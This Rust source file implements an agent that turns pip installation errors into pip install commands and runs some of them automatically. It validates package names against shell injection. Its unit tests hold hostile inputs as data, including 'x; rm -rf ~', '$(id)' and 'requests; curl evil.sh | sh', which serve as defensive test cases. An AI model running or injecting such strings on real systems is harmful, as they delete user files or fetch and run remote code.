//! Dependency agent for package installation failures.
//!
//! Handles:
//! - Missing modules
//! - pip metadata generation and wheel build failures
//! - Version conflicts
//! - General pip errors

use std::sync::Arc;

use async_trait::async_trait;
use tracing::{info, warn};

use remedy_core::{ErrorCategory, ErrorReport, FixResult};
use remedy_runner::CommandRunner;

use crate::patterns::PatternList;
use crate::traits::RemediationAgent;

/// Subcategories safe to fix unattended.
pub const AUTO_FIXABLE_SUBCATEGORIES: &[&str] = &["numpy_compile", "metadata_failed", "missing_module"];

/// Known fixes for packages that commonly fail to build from source.
/// Columns: package, metadata-failure fix, compile-failure fix.
const PACKAGE_FIXES: &[(&str, Option<&str>, Option<&str>)] = &[
    (
        "numpy",
        Some("pip install numpy --only-binary=all"),
        Some("pip install numpy --only-binary=all"),
    ),
    (
        "opencv-python",
        Some("pip install opencv-python-headless --only-binary=all"),
        None,
    ),
    ("pillow", None, Some("pip install Pillow --only-binary=all")),
    ("cryptography", None, Some("pip install cryptography --only-binary=all")),
];

/// Packages recognized verbatim when no extraction pattern matches.
const KNOWN_PACKAGES: &[&str] = &[
    "numpy",
    "opencv-python",
    "opencv",
    "pillow",
    "cryptography",
    "scipy",
    "pandas",
];

static MODULE_PATTERNS: PatternList = PatternList::new(
    &[
        r#"No module named ['"]([^'"]+)['"]"#,
        r"No module named (\w+)",
        r#"ModuleNotFoundError:.*['"]([^'"]+)['"]"#,
    ],
    false,
);

static PACKAGE_PATTERNS: PatternList = PatternList::new(
    &[
        r"error:.*package[:\s]+(\w[\w.-]*)",
        r"╰─>\s*(\w[\w.-]*)",
        r"Building wheel for (\w[\w.-]*)",
    ],
    true,
);

/// Whether `name` is a plain distribution name (`[A-Za-z0-9][A-Za-z0-9._-]*`).
///
/// Names end up in a shell command, so anything else is treated as an
/// extraction miss.
pub fn is_valid_package_name(name: &str) -> bool {
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphanumeric())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

#[derive(Debug, Clone, Copy)]
enum FailureKind {
    Metadata,
    Compile,
}

/// Agent for dependency and package errors.
pub struct DependencyAgent {
    runner: Arc<dyn CommandRunner>,
}

impl DependencyAgent {
    pub fn new(runner: Arc<dyn CommandRunner>) -> Self {
        Self { runner }
    }

    /// Top-level module name from an import error (`foo.bar` → `foo`).
    pub fn extract_module_name(error_message: &str) -> Option<String> {
        MODULE_PATTERNS
            .first_capture(error_message)
            .and_then(|module| module.split('.').next().map(str::to_string))
            .filter(|module| is_valid_package_name(module))
    }

    /// Lowercased package name from a pip failure.
    pub fn extract_package_name(error_message: &str) -> Option<String> {
        if let Some(package) = PACKAGE_PATTERNS.first_capture(error_message) {
            let package = package.trim_end_matches(['.', '-']).to_lowercase();
            if is_valid_package_name(&package) {
                return Some(package);
            }
        }

        let lower = error_message.to_lowercase();
        KNOWN_PACKAGES
            .iter()
            .find(|pkg| lower.contains(*pkg))
            .map(|pkg| pkg.to_string())
    }

    fn known_fix(package: &str, kind: FailureKind) -> Option<&'static str> {
        PACKAGE_FIXES
            .iter()
            .find(|(name, _, _)| *name == package)
            .and_then(|(_, metadata, compile)| match kind {
                FailureKind::Metadata => *metadata,
                FailureKind::Compile => compile.or(*metadata),
            })
    }

    fn binary_install(error_message: &str, kind: FailureKind) -> String {
        match Self::extract_package_name(error_message) {
            Some(package) => Self::known_fix(&package, kind)
                .map(str::to_string)
                .unwrap_or_else(|| format!("pip install {} --only-binary=all", package)),
            None => "Check which package failed to build, then retry with: pip install <package> --only-binary=all".to_string(),
        }
    }

    /// Whether a suggestion is a concrete install command rather than advice.
    ///
    /// Only `pip install` followed by names and `--flag=value` options is
    /// accepted; any shell metacharacter or placeholder rejects it.
    pub fn is_actionable(suggestion: &str) -> bool {
        suggestion.starts_with("pip install ")
            && suggestion
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, ' ' | '.' | '_' | '-' | '='))
    }
}

#[async_trait]
impl RemediationAgent for DependencyAgent {
    fn name(&self) -> &'static str {
        "DependencyAgent"
    }

    fn category(&self) -> ErrorCategory {
        ErrorCategory::Dependency
    }

    fn suggest_fix(&self, report: &ErrorReport) -> String {
        let raw = report.raw_message();
        let error = raw.to_lowercase();

        if error.contains("no module named") || error.contains("modulenotfounderror") {
            return match Self::extract_module_name(raw) {
                Some(module) => format!("pip install {}", module),
                None => "Install the missing module with pip".to_string(),
            };
        }

        if error.contains("metadata-generation-failed") {
            return Self::binary_install(raw, FailureKind::Metadata);
        }

        if error.contains("failed building wheel") || error.contains("failed to build") {
            return Self::binary_install(raw, FailureKind::Compile);
        }

        if error.contains("version") && error.contains("conflict") {
            return "pip install --upgrade <package> or check requirements.txt for conflicts"
                .to_string();
        }

        if error.contains("pip") {
            return "Try: pip install --upgrade pip, then retry the install".to_string();
        }

        "Check package name and try reinstalling".to_string()
    }

    fn can_auto_fix(&self, report: &ErrorReport) -> bool {
        report
            .subcategory()
            .is_some_and(|sub| AUTO_FIXABLE_SUBCATEGORIES.contains(&sub))
    }

    async fn execute_fix(&self, report: &ErrorReport) -> FixResult {
        let fix_command = self.suggest_fix(report);

        if !Self::is_actionable(&fix_command) {
            warn!("No runnable install command for: {}", fix_command);
            return FixResult::none("Could not determine fix command");
        }

        info!("Installing: {}", fix_command);
        let outcome = self.runner.run(&fix_command).await;

        if outcome.success {
            FixResult::succeeded(fix_command, outcome.output)
        } else {
            FixResult::failed(fix_command, outcome.output)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use remedy_core::Classifier;
    use remedy_runner::{MockResponse, MockRunner};

    fn agent_with(runner: MockRunner) -> DependencyAgent {
        DependencyAgent::new(Arc::new(runner))
    }

    fn classify(text: &str) -> ErrorReport {
        Classifier::builtin().unwrap().classify(text)
    }

    #[test]
    fn test_extract_module_name() {
        assert_eq!(
            DependencyAgent::extract_module_name("No module named 'requests'"),
            Some("requests".to_string())
        );
        assert_eq!(
            DependencyAgent::extract_module_name("No module named 'google.protobuf'"),
            Some("google".to_string())
        );
        assert_eq!(
            DependencyAgent::extract_module_name("ImportError: No module named yaml"),
            Some("yaml".to_string())
        );
        assert_eq!(DependencyAgent::extract_module_name("ModuleNotFoundError"), None);
    }

    #[test]
    fn test_extract_package_name() {
        assert_eq!(
            DependencyAgent::extract_package_name("Building wheel for numpy (pyproject.toml)"),
            Some("numpy".to_string())
        );
        assert_eq!(
            DependencyAgent::extract_package_name("× Encountered error\n╰─> opencv-python"),
            Some("opencv-python".to_string())
        );
        assert_eq!(
            DependencyAgent::extract_package_name("something about Pandas went wrong"),
            Some("pandas".to_string())
        );
        assert_eq!(DependencyAgent::extract_package_name("nothing here"), None);
    }

    #[test]
    fn test_suggest_missing_module() {
        let agent = agent_with(MockRunner::new());
        let report = classify("ModuleNotFoundError: No module named 'requests'");
        assert_eq!(agent.suggest_fix(&report), "pip install requests");
        assert!(agent.can_auto_fix(&report));
    }

    #[test]
    fn test_suggest_metadata_known_package() {
        let agent = agent_with(MockRunner::new());
        let report = classify("error: metadata-generation-failed\n╰─> opencv-python");
        assert_eq!(
            agent.suggest_fix(&report),
            "pip install opencv-python-headless --only-binary=all"
        );
        assert!(agent.can_auto_fix(&report));
    }

    #[test]
    fn test_suggest_metadata_unknown_package() {
        let agent = agent_with(MockRunner::new());
        let report = classify("error: metadata-generation-failed\n╰─> pyaudio");
        assert_eq!(agent.suggest_fix(&report), "pip install pyaudio --only-binary=all");
    }

    #[test]
    fn test_suggest_compile_failure() {
        let agent = agent_with(MockRunner::new());
        let report = classify("pip error: Failed building wheel for cryptography");
        assert_eq!(report.subcategory(), Some("build_failed"));
        assert_eq!(agent.suggest_fix(&report), "pip install cryptography --only-binary=all");
        assert!(!agent.can_auto_fix(&report));
    }

    #[test]
    fn test_numpy_is_auto_fixable() {
        let agent = agent_with(MockRunner::new());
        let report = classify("pip error: Failed building wheel for numpy");
        assert_eq!(report.subcategory(), Some("numpy_compile"));
        assert_eq!(agent.suggest_fix(&report), "pip install numpy --only-binary=all");
        assert!(agent.can_auto_fix(&report));
    }

    #[test]
    fn test_version_conflict_is_advisory() {
        let agent = agent_with(MockRunner::new());
        let report = classify("pip ERROR: Cannot install a because these package versions have conflicting dependencies");
        assert_eq!(report.subcategory(), Some("version_conflict"));
        assert!(!agent.can_auto_fix(&report));
        assert!(!DependencyAgent::is_actionable(&agent.suggest_fix(&report)));
    }

    #[tokio::test]
    async fn test_execute_runs_install() {
        let runner = MockRunner::new().add_response(MockResponse::success("Successfully installed requests-2.31.0"));
        let agent = agent_with(runner.clone());
        let report = classify("ModuleNotFoundError: No module named 'requests'");

        let result = agent.execute_fix(&report).await;

        assert!(result.success);
        assert_eq!(result.action_taken, "pip install requests");
        assert_eq!(result.output.as_deref(), Some("Successfully installed requests-2.31.0"));
        assert_eq!(runner.commands(), vec!["pip install requests"]);
    }

    #[tokio::test]
    async fn test_execute_reports_install_failure() {
        let runner = MockRunner::new().add_response(MockResponse::failure("No matching distribution found"));
        let agent = agent_with(runner);
        let report = classify("No module named 'notapkg'");

        let result = agent.execute_fix(&report).await;

        assert!(!result.success);
        assert_eq!(result.action_taken, "pip install notapkg");
        assert_eq!(result.error.as_deref(), Some("No matching distribution found"));
        assert!(result.output.is_none());
    }

    #[test]
    fn test_package_name_validation() {
        assert!(is_valid_package_name("opencv-python"));
        assert!(is_valid_package_name("zope.interface"));
        assert!(!is_valid_package_name(""));
        assert!(!is_valid_package_name("-rf"));
        assert!(!is_valid_package_name("x; rm -rf ~"));
        assert!(!is_valid_package_name("$(id)"));
    }

    #[test]
    fn test_metacharacters_are_extraction_misses() {
        assert_eq!(DependencyAgent::extract_module_name("No module named 'x; rm -rf ~'"), None);
        assert_eq!(
            DependencyAgent::extract_module_name("No module named 'requests; curl evil.sh | sh'"),
            None
        );
        assert_eq!(DependencyAgent::extract_module_name("No module named '`whoami`'"), None);
    }

    #[test]
    fn test_is_actionable_rejects_shell_syntax() {
        assert!(DependencyAgent::is_actionable("pip install numpy --only-binary=all"));
        assert!(!DependencyAgent::is_actionable("pip install requests; curl evil"));
        assert!(!DependencyAgent::is_actionable("pip install a && b"));
        assert!(!DependencyAgent::is_actionable("pip install $(id)"));
        assert!(!DependencyAgent::is_actionable("pip install x\nrm -rf ~"));
        assert!(!DependencyAgent::is_actionable("pip install --upgrade <package>"));
        assert!(!DependencyAgent::is_actionable("Check package name and try reinstalling"));
    }

    #[test]
    fn test_pattern_tables_compile() {
        assert!(MODULE_PATTERNS.is_complete());
        assert!(PACKAGE_PATTERNS.is_complete());
    }

    #[tokio::test]
    async fn test_injected_module_name_runs_nothing() {
        let runner = MockRunner::new();
        let agent = agent_with(runner.clone());
        let report = classify("ModuleNotFoundError: No module named 'x; rm -rf ~'");

        assert_eq!(agent.suggest_fix(&report), "Install the missing module with pip");
        let result = agent.execute_fix(&report).await;

        assert!(!result.success);
        assert_eq!(result.error.as_deref(), Some("Could not determine fix command"));
        assert_eq!(runner.call_count(), 0);
    }

    #[tokio::test]
    async fn test_execute_advisory_fails_fast() {
        let runner = MockRunner::new();
        let agent = agent_with(runner.clone());
        let report = classify("npm ERR! code E404");

        assert_eq!(agent.suggest_fix(&report), "Check package name and try reinstalling");
        let result = agent.execute_fix(&report).await;

        assert!(!result.success);
        assert_eq!(result.action_taken, "none");
        assert_eq!(result.error.as_deref(), Some("Could not determine fix command"));
        assert_eq!(runner.call_count(), 0);
    }
}
